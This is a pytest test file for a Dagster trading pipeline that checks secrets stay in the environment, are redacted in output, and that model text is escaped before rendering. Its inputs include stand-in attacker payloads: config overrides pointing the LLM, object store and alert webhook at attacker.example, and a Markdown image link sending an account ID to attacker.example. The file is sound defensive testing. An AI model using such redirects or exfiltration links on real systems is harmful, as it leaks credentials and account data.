"""Secrets stay in the deployment's environment: never set per run, never printed, never shown."""

import re

import dagster as dg
import pytest

from ibkr_pipeline import bundled
from ibkr_pipeline.assets.markdown import code_block, escape, table
from ibkr_pipeline.definitions import build_definitions
from ibkr_pipeline.domain.redaction import redact_secrets, redact_url
from ibkr_pipeline.resources.alerts import AlertWebhook
from ibkr_pipeline.resources.database import DatabaseResource
from ibkr_pipeline.resources.llm import LLMResource
from ibkr_pipeline.resources.objects import ObjectStoreResource

ROOT_STRATEGIES = bundled.STRATEGIES
KEY = "sk-live-DO-NOT-LEAK-0123456789"
DB_URL = "postgresql+psycopg2://trader:hunter2-db-password@db.internal:5432/ibkr"


@pytest.fixture
def deployment(monkeypatch, tmp_path):
    monkeypatch.setenv("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    monkeypatch.setenv("IBKR_PIPELINE_DB_URL", DB_URL)
    monkeypatch.setenv("IBKR_PIPELINE_HOME", str(tmp_path))
    return build_definitions(ROOT_STRATEGIES)


@pytest.mark.parametrize(
    "override",
    [
        {"llm": {"config": {"base_url": "https://attacker.example/v1"}}},
        {"llm": {"config": {"api_key": {"env": "IBKR_PIPELINE_DB_URL"}}}},
        {"database": {"config": {"url": {"env": "OPENAI_API_KEY"}}}},
        {"objects": {"config": {"endpoint": "attacker.example:9000"}}},
        {"alerts": {"config": {"url": "https://attacker.example/hook"}}},
    ],
)
def test_no_resource_field_can_be_set_from_the_launchpad(deployment, override):
    job = deployment.resolve_job_def("us_megacaps_daily_tick")
    with pytest.raises(dg.DagsterInvalidConfigError) as refused:
        dg.validate_run_config(job, {"resources": override})
    assert "Received unexpected config entry" in str(refused.value)


def test_the_locked_resources_read_the_environment_when_a_run_starts(deployment):
    llm = deployment.resources["llm"]
    schema_text = str(deployment.resolve_job_def("us_megacaps_daily_tick").run_config_schema.config_type.fields)
    assert KEY not in schema_text and "hunter2" not in schema_text
    with dg.build_resources({"llm": llm}) as built:
        assert built.llm.api_key == KEY and built.llm.base_url == "http://127.0.0.1:9/v1"


def test_repr_and_probes_never_show_a_secret():
    shown = "\n".join(
        repr(r)
        for r in (
            LLMResource(base_url="http://127.0.0.1:9/v1", api_key=KEY),
            ObjectStoreResource(
                endpoint="127.0.0.1:9", access_key="AKIA-SECRET-ACCESS", secret_key="s3-secret-key-value"
            ),
            AlertWebhook(url="https://hooks.example/T000/B000/webhook-token-value"),
            DatabaseResource(url=DB_URL),
        )
    )
    for secret in (KEY, "AKIA-SECRET-ACCESS", "s3-secret-key-value", "webhook-token-value", "hunter2"):
        assert secret not in shown
    health = LLMResource(base_url="http://user:probe-password@127.0.0.1:9/v1", api_key=KEY).probe(timeout_s=2)
    assert health.status == "down" and "probe-password" not in health.detail
    assert health.detail.startswith("user:***@127.0.0.1:9: ")


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        (DB_URL, "postgresql+psycopg2://trader:***@db.internal:5432/ibkr"),
        ("https://api.example/v1?api_key=abc&model=x", "https://api.example/v1?api_key=***&model=x"),
        ("http://user@host/x", "http://user@host/x"),
        ("sqlite:////tmp/x.db", "sqlite:////tmp/x.db"),
    ],
)
def test_urls_lose_their_credentials(url, shown):
    assert redact_url(url) == shown


def test_secrets_are_masked_in_free_text():
    assert redact_secrets(f"Bearer {KEY} failed", [KEY, ""]) == "Bearer *** failed"


def test_model_text_is_shown_never_rendered():
    attack = "Buy! ![x](https://attacker.example/?acct=DU123) <img src=x> [click](javascript:alert(1))"
    cell = table(["why"], [[attack]]).splitlines()[2].strip("| ")
    assert re.search(r"(?<!\\)[!\[\]<>]", cell) is None  # nothing makes a link, an image or HTML
    assert escape(attack) == (
        "Buy\\! \\!\\[x\\](https://attacker.example/?acct=DU123) \\<img src=x\\> \\[click\\](javascript:alert(1))"
    )
    assert code_block("a ``` b ```` c") == "`````text\na ``` b ```` c\n`````"


def test_the_database_url_is_an_env_var_read_at_run_start(deployment):
    with dg.build_resources({"database": deployment.resources["database"]}) as built:
        assert built.database.url == DB_URL
    assert "hunter2" not in repr(built.database)
